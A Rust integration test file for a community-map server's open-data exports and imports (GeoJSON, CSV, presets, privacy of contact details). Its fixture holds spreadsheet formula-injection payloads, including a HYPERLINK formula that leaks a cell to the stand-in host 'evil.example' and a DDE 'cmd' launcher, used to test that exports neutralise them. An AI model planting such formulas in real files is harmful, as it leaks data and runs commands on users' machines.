//! Open data: the exports over HTTP and from the command line, the import
//! with its report, its updates in place and its presets, and a round trip
//! from one database to another through each format. GDAL (through
//! pyogrio) must read the GeoJSON export.

#![allow(clippy::unwrap_used)] // a failed unwrap is a failed test

use crate::support;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;

use axum::http::{StatusCode, header};
use serde_json::Value;
use solidarity_map_core::org::RawLocation;
use solidarity_map_core::{CategorySlug, NewOrganization, OrganizationInput, SiteConfig, Status};
use solidarity_map_server::open_data::presets::Preset;
use solidarity_map_server::open_data::{Format, Licence, export, import};
use solidarity_map_server::seed;
use solidarity_map_server::store::{ImportCounts, Store};

use crate::support::get;

const SECRET: &str = "secret-contact@example.org";

fn repo(path: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../..")
        .join(path)
}

/// The demo organisations, and one more with a contact address and an
/// exact point that must stay private, and a pending one.
async fn filled(store: &dyn Store) {
    seed::sync_categories(store).await.unwrap();
    seed::seed_demo_if_empty(store).await.unwrap();
    let private = OrganizationInput {
        name: BTreeMap::from([
            ("en".into(), "Neighbours, \"United\"".into()),
            ("ar".into(), "جيران معاً".into()),
            ("he".into(), "שכנים ביחד".into()),
        ]),
        description: BTreeMap::from([("en".into(), "Two lines,\nwith a comma.".into())]),
        category: "solidarity".into(),
        city: "Haifa".into(),
        country: "IL".into(),
        location: Some(RawLocation {
            lat: 32.794_123,
            lon: 34.989_567,
        }),
        precision: Some("neighbourhood".into()),
        website: Some("https://neighbours.example.org/".into()),
        links: vec!["https://social.example.org/@neighbours".into()],
        languages: vec!["he".into(), "ar".into()],
        tags: vec!["housing".into(), "mutual aid".into()],
        contact_email: Some(SECRET.into()),
    };
    let private = published(store, private).await;
    let mut hidden = private.clone();
    hidden.name = solidarity_map_core::OrgName::parse(BTreeMap::from([(
        solidarity_map_core::LangCode::parse("en").unwrap(),
        "Still pending".into(),
    )]))
    .unwrap();
    store
        .insert_organization(&hidden, Status::Pending)
        .await
        .unwrap();
}

/// Stores `input` published: what is stored.
async fn published(store: &dyn Store, input: OrganizationInput) -> NewOrganization {
    let org = input.validate().unwrap();
    store
        .insert_organization(&org, Status::Published)
        .await
        .unwrap();
    org
}

async fn published_count(store: &dyn Store) -> u64 {
    store
        .published(&solidarity_map_core::OrgFilter::default())
        .await
        .unwrap()
        .total
}

async fn exported(store: &Arc<dyn Store>, format: Format) -> String {
    let mut out = Vec::new();
    export::write_to(store.clone(), format, Licence::default(), None, &mut out)
        .await
        .unwrap();
    String::from_utf8(out).unwrap()
}

async fn known(store: &dyn Store) -> Vec<CategorySlug> {
    store
        .categories()
        .await
        .unwrap()
        .into_iter()
        .map(|c| c.category.slug)
        .collect()
}

/// Imports `text` as the file `name`, published; panics on any problem.
async fn import_text(store: &dyn Store, name: &str, text: &str, options: &import::Options) {
    seed::sync_categories(store).await.unwrap();
    let checked = import::check(
        Path::new(name),
        text.as_bytes(),
        options,
        &known(store).await,
    )
    .unwrap();
    assert!(checked.problems.is_empty(), "{:?}", checked.problems);
    publish(store, &checked).await;
}

/// Stores the rows `checked` holds, published (as `import --publish`).
async fn publish(store: &dyn Store, checked: &import::Checked) -> ImportCounts {
    store
        .import_external(
            &checked.source,
            &checked.rows,
            Some(Status::Published),
            &|_| {},
        )
        .await
        .unwrap()
}

/// The features of a GeoJSON export by id, without `updated_at` and
/// `last_confirmed` (an import is a new write).
fn features(text: &str) -> BTreeMap<String, Value> {
    let v: Value = serde_json::from_str(text).unwrap();
    v["features"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            let mut f = f.clone();
            let properties = f["properties"].as_object_mut().unwrap();
            properties.remove("updated_at");
            properties.remove("last_confirmed");
            (f["id"].as_str().unwrap().to_owned(), f)
        })
        .collect()
}

/// The rows of a CSV export by column name, without `updated_at`.
fn rows(text: &str) -> Vec<BTreeMap<String, String>> {
    let mut r = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = r.headers().unwrap().iter().map(str::to_owned).collect();
    r.records()
        .map(|rec| {
            header
                .iter()
                .cloned()
                .zip(rec.unwrap().iter().map(str::to_owned))
                .filter(|(k, _)| k != "updated_at")
                .collect()
        })
        .collect()
}

/// An entry whose text a spreadsheet would run as formulas, in the southern
/// and western hemispheres (negative coordinates).
async fn formulas(store: &dyn Store) {
    let org = OrganizationInput {
        name: BTreeMap::from([
            ("en".into(), FORMULA.into()),
            ("ar".into(), "+1+cmd|' /C calc'!A0".into()),
            ("he".into(), "'=already quoted".into()),
        ]),
        description: BTreeMap::from([
            ("en".into(), "-2+3".into()),
            ("ar".into(), "@SUM(1,1)".into()),
        ]),
        category: "solidarity".into(),
        city: "=1+1".into(),
        country: "AR".into(),
        location: Some(RawLocation {
            lat: -34.6037,
            lon: -58.3816,
        }),
        precision: Some("city".into()),
        website: None,
        links: Vec::new(),
        languages: vec!["es".into()],
        tags: vec!["-minus".into(), "=tag".into(), "plain".into()],
        contact_email: None,
    };
    published(store, org).await;
}

const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")";

/// The CSV runs no formula: every text cell that starts like one starts
/// with `'`, numbers stay numbers.
fn assert_no_formulas(csv: &str) {
    let rows = rows(csv);
    let row = rows
        .iter()
        .find(|r| r["name.en"].contains("HYPERLINK"))
        .expect("the formula row");
    assert_eq!(row["name.en"], format!("'{FORMULA}"));
    for (column, quoted) in [
        ("name.ar", "'+1+cmd|' /C calc'!A0"),
        // a quote the export would otherwise take for its own is doubled
        ("name.he", "''=already quoted"),
        ("description.en", "'-2+3"),
        ("description.ar", "'@SUM(1,1)"),
        ("city", "'=1+1"),
        ("tags", "'-minus|=tag|plain"),
        ("lat", "-34.6"),
        ("lon", "-58.4"),
    ] {
        assert_eq!(row[column], quoted, "{column}");
    }
    for r in &rows {
        for (column, cell) in r {
            assert!(
                !cell.starts_with(['=', '+', '@', '\t', '\r'])
                    && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
                "{column}: {cell:?} would run as a formula"
            );
        }
    }
}

async fn round_trip(a: Arc<dyn Store>, b: Arc<dyn Store>, c: Arc<dyn Store>) {
    filled(a.as_ref()).await;
    formulas(a.as_ref()).await;
    let options = import::Options::default();

    let geojson = exported(&a, Format::GeoJson).await;
    import_text(b.as_ref(), "export.geojson", &geojson, &options).await;
    let again = exported(&b, Format::GeoJson).await;
    let (before, after) = (features(&geojson), features(&again));
    assert_eq!(before.len() as u64, published_count(a.as_ref()).await);
    // the same ids, points, names in every language, lists and all
    assert_eq!(before, after);

    let csv = exported(&a, Format::Csv).await;
    assert_no_formulas(&csv);
    import_text(c.as_ref(), "export.csv", &csv, &options).await;
    let again = exported(&c, Format::Csv).await;
    assert_eq!(rows(&csv), rows(&again));
    assert_eq!(rows(&csv).len(), before.len());
    // and the two formats hold the same organisations
    assert_eq!(
        features(&exported(&c, Format::GeoJson).await),
        before,
        "CSV and GeoJSON disagree"
    );
}

on_both_backends!(backend: round_trip_through_three_databases);

async fn round_trip_through_three_databases(backend: support::Backend) {
    let Some(a) = backend.fresh().await else {
        return;
    };
    let (Some(b), Some(c)) = (backend.fresh().await, backend.fresh().await) else {
        return;
    };
    round_trip(a.store(), b.store(), c.store()).await;
}

fn site() -> SiteConfig {
    support::tiles_from("https://tile.example.org/{z}/{x}/{y}.png")
}

#[tokio::test]
async fn http_exports_are_public_licensed_downloads() {
    let db = support::sqlite().await;
    filled(db.store().as_ref()).await;
    let published = published_count(db.store().as_ref()).await;
    let licence =
        Licence::new("CC-BY-4.0", "https://creativecommons.org/licenses/by/4.0/").unwrap();
    let env = support::setup()
        .site(site())
        .start_on(db, |state| state.licence = licence)
        .await;
    let app = &env.app;

    for (uri, ctype, file) in [
        (
            "/api/export.geojson",
            "application/geo+json",
            "solidarity-map.geojson",
        ),
        (
            "/api/export.csv",
            "text/csv; charset=utf-8; header=present",
            "solidarity-map.csv",
        ),
    ] {
        let d = get(app, uri).await;
        assert_eq!(d.status, StatusCode::OK, "{uri}");
        let body = d.text();
        assert_eq!(d.headers[header::CONTENT_TYPE], ctype, "{uri}");
        assert_eq!(
            d.headers[header::LINK],
            "<https://creativecommons.org/licenses/by/4.0/>; rel=\"license\"",
            "{uri}"
        );
        assert_eq!(
            d.headers[header::CONTENT_DISPOSITION],
            format!("attachment; filename=\"{file}\""),
            "{uri}"
        );
        // nothing private: no contact address, no exact point, no pending entry
        assert!(!body.contains(SECRET), "{uri} leaks the contact address");
        assert!(!body.contains("32.794123"), "{uri} leaks the exact point");
        assert!(!body.contains("34.989567"), "{uri} leaks the exact point");
        assert!(
            !body.contains("Still pending"),
            "{uri} shows a pending entry"
        );
        assert!(body.contains("جيران معاً") && body.contains("שכנים ביחד"));
        // the same entries as the public list, as it shows them
        if uri.ends_with("geojson") {
            let fc: Value = serde_json::from_str(&body).unwrap();
            assert_eq!(fc["type"], "FeatureCollection");
            assert_eq!(fc["license"], "CC-BY-4.0");
            assert_eq!(fc["links"][0]["rel"], "license");
            assert_eq!(
                fc["links"][0]["href"],
                "https://creativecommons.org/licenses/by/4.0/"
            );
            let features = fc["features"].as_array().unwrap();
            assert_eq!(features.len() as u64, published);
            let list = get(app, "/api/organizations?limit=10000").await.json();
            let by_id: BTreeMap<&str, &Value> = list["features"]
                .as_array()
                .unwrap()
                .iter()
                .map(|f| (f["id"].as_str().unwrap(), f))
                .collect();
            for f in features {
                assert_eq!(Some(&f), by_id.get(f["id"].as_str().unwrap()));
            }
        } else {
            let rows = rows(&body);
            assert_eq!(rows.len() as u64, published);
            let ours = rows
                .iter()
                .find(|r| r["name.en"] == "Neighbours, \"United\"")
                .unwrap();
            for (column, want) in [
                ("name.ar", "جيران معاً"),
                ("description.en", "Two lines,\nwith a comma."),
                ("tags", "housing|mutual aid"),
                ("languages", "he|ar"),
                ("lat", "32.79"),
                ("lon", "34.99"),
            ] {
                assert_eq!(ours[column], want, "{column}");
            }
            assert!(!rows[0].contains_key("contact_email"));
        }
    }
}

/// A SQLite file with the demo data and the private entry, for the
/// command-line tests.
async fn sqlite_file() -> support::TestDb {
    let db = support::sqlite().await;
    filled(db.store().as_ref()).await;
    db
}

/// Where to write the partners' sheet (in a folder kept while it is held),
/// and the database to import it into.
async fn partners_sheet() -> (tempfile::TempDir, PathBuf, support::TestDb) {
    let dir = tempfile::tempdir().unwrap();
    let sheet = dir.path().join("partners.csv");
    (dir, sheet, sqlite_file().await)
}

fn run(url: &str, args: &[&str]) -> std::process::Output {
    Command::new(support::bin())
        .args(args)
        .env("DATABASE_URL", url)
        .env("RUST_LOG", "warn")
        .env_remove("RUST_BACKTRACE")
        .env_remove("RUST_LIB_BACKTRACE")
        .output()
        .unwrap()
}

#[tokio::test]
async fn command_line_export_gives_the_http_bytes() {
    let dir = tempfile::tempdir().unwrap();
    let env = support::setup()
        .site(site())
        .start_on(sqlite_file().await, |_| {})
        .await;
    let url = env.db.url();
    for (format, uri) in [
        ("geojson", "/api/export.geojson"),
        ("csv", "/api/export.csv"),
    ] {
        let http = get(&env.app, uri).await.text();
        let stdout = run(url, &["export", "--format", format]);
        assert!(stdout.status.success(), "{stdout:?}");
        assert_eq!(String::from_utf8(stdout.stdout).unwrap(), http, "{format}");
        let file = dir.path().join(format!("out.{format}"));
        let to_file = run(
            url,
            &[
                "export",
                "--format",
                format,
                "--output",
                file.to_str().unwrap(),
            ],
        );
        assert!(to_file.status.success(), "{to_file:?}");
        assert_eq!(std::fs::read_to_string(&file).unwrap(), http, "{format}");
    }
}

/// How the test sheet's columns are our fields.
const SHEET_MAP: [&str; 20] = [
    "--map",
    "ref=id",
    "--map",
    "title=name.en",
    "--map",
    "Title (Arabic)=name.ar",
    "--map",
    "about=description",
    "--map",
    "lng=lon",
    "--map",
    "town=city",
    "--map",
    "kind=category",
    "--map",
    "email=contact_email",
    "--map",
    "keywords=tags",
    "--map",
    "country=country",
];

const SHEET_HEADER: &str =
    "ref,title,Title (Arabic),about,lat,lng,town,country,kind,email,keywords\n";

#[tokio::test]
async fn dry_run_reports_every_bad_row_and_changes_nothing() {
    let (_dir, sheet, db) = partners_sheet().await;
    let (url, store) = (db.url(), db.store());
    std::fs::write(
        &sheet,
        format!(
            "{SHEET_HEADER}\
             p1,Good Group,مجموعة جيدة,A group.,31.9,35.2,Ramallah,PS,solidarity,ok@example.org,youth|art\n\
             p2,Bad Mail,,A group.,31.9,35.2,Ramallah,PS,solidarity,not-an-address,\n\
             p3,Off the Map,,A group.,95,35.2,Ramallah,PS,solidarity,,\n\
             p4,Nowhere Land,,A group.,31.9,35.2,Ramallah,XX,solidarity,,\n\
             ,No Reference,,A group.,31.9,35.2,Ramallah,PS,solidarity,,\n\
             p6,Unknown Kind,,A group.,31.9,35.2,Ramallah,PS,no-such-kind,,\n\
             p1,Twice,,A group.,31.9,35.2,Ramallah,PS,solidarity,,\n"
        ),
    )
    .unwrap();
    let before = store.count_organizations().await.unwrap();
    let map = SHEET_MAP;
    let mut args = vec!["import", sheet.to_str().unwrap(), "--dry-run"];
    args.extend(map);
    let out = run(url, &args);
    assert!(!out.status.success(), "problems must fail the run");
    let report = String::from_utf8(out.stdout).unwrap();
    let lines: Vec<&str> = report.lines().collect();
    let expected = [
        "row 3: contact_email: must be an e-mail address like name@example.org",
        "row 4: location.lat: latitude must be a number from -90 to 90",
        "row 5: country: \"XX\" is not an ISO 3166-1 alpha-2 country code (e.g. PS, IL, GB)",
        "row 6: id: is required",
        "row 7: category: unknown category \"no-such-kind\"",
        "row 8: id: \"p1\" is also the id of row 2",
    ];
    assert_eq!(lines.len(), expected.len(), "{report}");
    for (line, want) in lines.iter().zip(expected) {
        assert!(
            line.starts_with(want),
            "{line:?} should start with {want:?}"
        );
    }
    assert_eq!(store.count_organizations().await.unwrap(), before);

    // a real run of the same file refuses it whole
    let mut args = vec!["import", sheet.to_str().unwrap(), "--publish"];
    args.extend(map);
    assert!(!run(url, &args).status.success());
    assert_eq!(store.count_organizations().await.unwrap(), before);
}

#[tokio::test]
async fn importing_the_same_file_again_updates() {
    let (_dir, sheet, db) = partners_sheet().await;
    let (url, store) = (db.url(), db.store());
    let write = |name: &str| {
        std::fs::write(
            &sheet,
            format!(
                "{SHEET_HEADER}\
                 p1,{name},مجموعة,A group.,31.9,35.2,Ramallah,PS,solidarity,ok@example.org,youth|art\n\
                 p2,Second,,A group.,32.1,35.0,Nablus,PS,media,,\n"
            ),
        )
        .unwrap();
    };
    let map = SHEET_MAP;
    let mut args = vec!["import", sheet.to_str().unwrap(), "--publish"];
    args.extend(map);
    let before = store.count_organizations().await.unwrap();
    write("First Name");
    let out = run(url, &args);
    assert!(out.status.success(), "{out:?}");
    assert_eq!(store.count_organizations().await.unwrap(), before + 2);
    write("Better Name");
    let out = run(url, &args);
    assert!(out.status.success(), "{out:?}");
    assert_eq!(store.count_organizations().await.unwrap(), before + 2);
    let csv = exported(&store, Format::Csv).await;
    assert!(csv.contains("Better Name") && !csv.contains("First Name"));
    assert!(csv.contains("مجموعة"));
}

#[tokio::test]
async fn the_samples_import_with_their_presets() {
    let db = support::sqlite().await;
    let store = db.store();
    seed::sync_categories(store.as_ref()).await.unwrap();
    let known = known(store.as_ref()).await;
    for (file, preset, count, defaults) in [
        (
            "data/samples/kartevonmorgen.csv",
            Preset::Kvm,
            4,
            vec!["category=solidarity".to_owned()],
        ),
        (
            "data/samples/umap.geojson",
            Preset::Umap,
            3,
            vec![
                "category=solidarity".to_owned(),
                "city=Haifa".to_owned(),
                "country=IL".to_owned(),
            ],
        ),
    ] {
        let path = repo(file);
        let bytes = std::fs::read(&path).unwrap();
        // without a category the report says so for every row
        let bare = import::check(&path, &bytes, &import::Options::default(), &known).unwrap();
        assert_eq!(bare.preset, Some(preset), "{file} is recognised");
        assert!(bare.problems.iter().any(|p| p.field == "category"));
        let options = import::Options {
            defaults,
            ..Default::default()
        };
        let checked = import::check(&path, &bytes, &options, &known).unwrap();
        assert!(
            checked.problems.is_empty(),
            "{file}: {:?}",
            checked.problems
        );
        assert_eq!(checked.rows.len(), count);
        let done = publish(store.as_ref(), &checked).await;
        assert_eq!(done.added, count, "{file}");
    }
    let all = exported(&store, Format::GeoJson).await;
    let fc: Value = serde_json::from_str(&all).unwrap();
    let names: Vec<&Value> = fc["features"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| &f["properties"]["name"])
        .collect();
    assert_eq!(names.len(), 7);
    // unlabelled text in Arabic or Hebrew letters is filed under its language
    assert!(
        names
            .iter()
            .any(|n| n["ar"] == "بيت الجالية العربية في برلين")
    );
    assert!(names.iter().any(|n| n["he"] == "בית הקהילה בהדר"));
    assert!(names.iter().any(|n| n["en"] == "Repair Café Südstadt"));
    // Karte von morgen's e-mail column is stored, but private
    assert!(!all.contains("kontakt@nachbarschaft.example.org"));
}

#[tokio::test]
async fn gdal_reads_the_geojson_export() {
    let python = repo("target/tools/python/bin/python");
    if !solidarity_map_testkit::require(
        python.exists(),
        &format!(
            "pyogrio is not installed at {}; run cargo xtask test, or python3 -m venv \
             target/tools/python && target/tools/python/bin/pip install --no-deps -r \
             tools/python-requirements.txt",
            python.display()
        ),
    ) {
        return;
    }
    let db = support::sqlite().await;
    let store = db.store();
    filled(store.as_ref()).await;
    let published = published_count(store.as_ref()).await;
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("export.geojson");
    std::fs::write(&file, exported(&store, Format::GeoJson).await).unwrap();
    let script = "import json, sys, pyogrio\n\
                  info = pyogrio.read_info(sys.argv[1])\n\
                  print(json.dumps({'count': int(info['features']), \
                  'fields': [str(f) for f in info['fields']], \
                  'geometry': info['geometry_type'], 'crs': info['crs']}))";
    let out = Command::new(&python)
        .args(["-c", script, file.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "GDAL refused the export: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let info: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(info["count"], published);
    assert_eq!(info["geometry"], "Point");
    assert_eq!(info["crs"], "EPSG:4326");
    let fields: Vec<&str> = info["fields"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f.as_str().unwrap())
        .collect();
    for field in [
        "id",
        "name",
        "description",
        "category",
        "city",
        "country",
        "precision",
        "website",
        "links",
        "languages",
        "tags",
        "updated_at",
    ] {
        assert!(fields.contains(&field), "GDAL sees no {field}: {fields:?}");
    }
    assert!(!fields.contains(&"contact_email"));
}
